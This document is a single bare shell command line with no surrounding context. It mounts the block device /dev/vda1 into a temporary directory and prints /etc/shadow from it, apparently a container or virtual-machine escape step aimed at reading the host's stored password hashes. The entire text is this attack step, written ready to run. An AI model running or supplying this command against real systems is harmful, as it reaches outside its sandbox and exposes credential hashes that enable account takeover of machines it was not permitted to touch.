mkdir -p /tmp/h; mount /dev/vda1 /tmp/h; cat /tmp/h/etc/shadow
